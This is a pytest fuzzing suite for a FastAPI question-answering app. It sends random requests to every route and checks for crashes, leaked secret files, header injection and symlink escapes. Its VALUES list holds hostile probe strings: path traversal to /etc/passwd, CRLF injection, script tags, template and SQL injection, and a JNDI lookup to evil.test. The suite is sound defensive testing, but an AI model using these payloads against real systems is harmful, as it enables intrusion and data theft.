"""Every address with anything for its parameters: an answer or a refusal, never a failure."""

import json
import random
import re
import time
from collections import Counter
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from qa.web.forms import FIELD
from qa.web.server import create_app
from tests.torture.mutations import ODD
from tests.web.bench import HEADERS, Bench
from tests.web.test_doors import routes

AT_LENGTH = pytest.mark.torture
SECRET = "words of another file"
SLOWEST = 10.0
NAMES = (
    "q", "k", "caution", "explain", "language", "issuer", "kind", "start", "end", "limit", "offset",
    "path", "next", "page", "number", "step", "part", "state", "name", "title", "text", "place",
    "prefix", "suffix", "hash", "before", "after", "run", "other", "measure", "judge", "question",
    "__proto__", "",
)  # fmt: skip
VALUES = (
    "", "0", "1", "-1", "5", "1e9", "9" * 30, "NaN", "true", "en", "balanced", "fund.txt",
    "x" * 3000,
    "../secret.txt", "../../etc/passwd", "/etc/passwd", "..\\secret.txt", "%2e%2e/secret.txt",
    "....//secret.txt", "file:///etc/passwd", "C:\\windows", "http://evil.test/", "//evil.test",
    "a\r\nset-cookie: b=c", "a\nb", "a\x00b", "\ud800", "<script>alert(1)</script>", "{{7*7}}",
    "${7*7}", "' OR 1=1 --", "\u202eabc", "é" * 200, "😀", "${jndi:ldap://evil.test}", "%s%s%n",
    "What does the fund do?", "null", "[]", "{}",
)  # fmt: skip


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Bench:
    folder = tmp_path_factory.mktemp("requests")
    (folder / "secret.txt").write_text(SECRET)
    made = Bench(folder)
    (made.corpus / "lessons").mkdir()
    (made.corpus / "lessons" / "one.md").write_text("# One\n\n## What does the fund do?\n")
    return made


@pytest.fixture(scope="module")
def app(bench: Bench) -> FastAPI:
    folder = bench.corpus.parent
    return create_app(
        bench.current,
        lambda _: (),
        corpus=bench.corpus,
        workshop=bench.workshop,
        gold=folder / "gold",
        runs=folder / "runs",
    )


@pytest.fixture
def client(app: FastAPI) -> TestClient:
    """Raises whatever a page fails of."""
    return TestClient(
        app, base_url="http://localhost", follow_redirects=False, client=("127.0.0.1", 50000)
    )


def address(path: str, known: list[str], chance: random.Random) -> str:
    def value(_: object) -> str:
        chosen = chance.choice([*known, *VALUES])
        return quote(
            chosen.encode("utf-8", "surrogatepass"), safe="/" if chance.random() < 0.5 else ""
        )

    names = chance.sample(NAMES, chance.randint(0, 4))
    pairs = [(name, chance.choice(VALUES).encode("utf-8", "surrogatepass")) for name in names]
    filled = re.sub(r"\{[^}]*\}", value, path)
    return f"{filled}?{urlencode(pairs)}" if pairs else filled


def require_harmless(
    answer_text: str, status: int, headers: list[tuple[str, str]], where: str
) -> None:
    assert status < 500, where
    assert SECRET not in answer_text, where
    assert "root:x:0" not in answer_text, where
    assert "Traceback" not in answer_text, where
    assert not any("\n" in value or value.startswith("b=c") for _, value in headers), where


@pytest.mark.parametrize(
    ("count", "seconds"), [(250, 4), pytest.param(20_000, 120, marks=AT_LENGTH)]
)
def test_every_parameter_of_every_page(
    app: FastAPI, bench: Bench, client: TestClient, tally: Counter[str], count: int, seconds: int
) -> None:
    chance, until = random.Random(count), time.monotonic() + seconds
    known = [source.id for source in bench.current.index.sources] + ["one.md", "treaty.txt"]
    paths = sorted(
        {path for method, path in routes(app) if method == "GET" and "stream" not in path}
    )
    done = 0
    while done < count and time.monotonic() < until:
        asked = address(paths[done % len(paths)] or "/", known, chance)
        began = time.monotonic()
        answer = client.get(asked)
        assert time.monotonic() - began < SLOWEST, asked
        require_harmless(answer.text, answer.status_code, answer.headers.multi_items(), asked)
        done += 1
    tally["hostile requests answered or refused"] += done


@pytest.mark.parametrize("count", [60, pytest.param(3000, marks=AT_LENGTH)])
def test_every_field_of_every_form(
    app: FastAPI, bench: Bench, client: TestClient, tally: Counter[str], count: int
) -> None:
    """From a page of our own, so that nothing but the fields can be refused."""
    chance = random.Random(count)
    client.get("/library")
    secret = client.cookies["cited-qa-form"]
    paths = [path for method, path in routes(app) if method == "POST" and "gradio" not in path]
    paths = [path for path in paths if "/copy" not in path and not path.startswith("/log")]
    for number in range(count):
        path = re.sub(
            r"\{[^}]*\}", chance.choice(["one", "one.md", "x"]), paths[number % len(paths)]
        )
        names = chance.sample(NAMES, 5)
        fields = {name: chance.choice(VALUES).encode("utf-8", "replace").decode() for name in names}
        answer = client.post(path, data={**fields, FIELD: secret}, headers=HEADERS)
        require_harmless(
            answer.text, answer.status_code, answer.headers.multi_items(), f"{path} {fields}"
        )
    assert (bench.corpus.parent / "secret.txt").read_text() == SECRET
    outside = {file.name for file in bench.corpus.parent.iterdir()}
    assert outside <= {"corpus", "index", "secret.txt", "gold", "runs"}
    tally["hostile forms taken or refused"] += count


@pytest.mark.parametrize("count", [30, pytest.param(1000, marks=AT_LENGTH)])
def test_the_route_of_gradio(client: TestClient, tally: Counter[str], count: int) -> None:
    chance = random.Random(count)
    for _ in range(count):
        data: list[object] = [
            chance.choice([*VALUES, None, 7, [], {}]) for _ in range(chance.randint(0, 3))
        ]
        body = {"data": data, "fn_index": chance.choice([0, 1, 2, -1, 99, "x", None])}
        text = json.dumps(body)
        if chance.random() < 0.3:
            at = chance.randrange(len(text))
            text = text[:at] + chance.choice(ODD).decode("latin-1") + text[at:]
        answer = client.post(
            "/gradio_api/run/predict",
            content=text.encode("utf-8", "replace"),
            headers={"content-type": "application/json"},
        )
        require_harmless(answer.text, answer.status_code, [], text)
    tally["hostile requests answered or refused"] += count


def test_names_of_files_stay_in_their_header(client: TestClient, bench: Bench) -> None:
    for name in ("a\r\nset-cookie: x=y", 'a"; filename="b.exe', "a;b", "../one", "é\u202egpj.md"):
        lesson = bench.corpus / "lessons" / f"{name.replace('/', '_')}.md"
        lesson.write_text("# One\n")
        answer = client.get(f"/teach/{quote(lesson.stem)}/file")
        assert answer.status_code in {200, 404}
        assert "set-cookie" not in answer.headers
        disposition = answer.headers.get("content-disposition", "")
        assert re.fullmatch(r"(attachment; filename\*=UTF-8''[\w.%~-]+)?", disposition, re.ASCII)
        lesson.unlink()


def test_links_out_of_the_corpus_are_shown_nowhere(tmp_path: Path) -> None:
    """In any place that is read: documents, lessons, the sidecar."""
    (tmp_path / "secret.txt").write_text(f"{SECRET}\n")
    (tmp_path / "secret.md").write_text(f"# {SECRET}\n\n## Who?\n")
    made = Bench(tmp_path)
    (made.corpus / "link.txt").symlink_to(tmp_path / "secret.txt")
    (made.corpus / "folder").symlink_to(tmp_path, target_is_directory=True)
    (made.corpus / "lessons").mkdir()
    (made.corpus / "lessons" / "link.md").symlink_to(tmp_path / "secret.md")
    made.index_elsewhere()
    made.follower.catch_up()
    app = create_app(made.current, lambda _: (), corpus=made.corpus, workshop=made.workshop)
    client = TestClient(app, base_url="http://localhost")
    for page in ("/library", "/teach", "/teach/link", "/teach/link/file", "/api/documents"):
        assert SECRET not in client.get(page).text, page
    assert (
        client.get("/api/ask", params={"q": SECRET}).json()["passages"] == []
        or SECRET
        not in (client.get("/api/ask", params={"q": SECRET}).json()["passages"][0]["text"])
    )
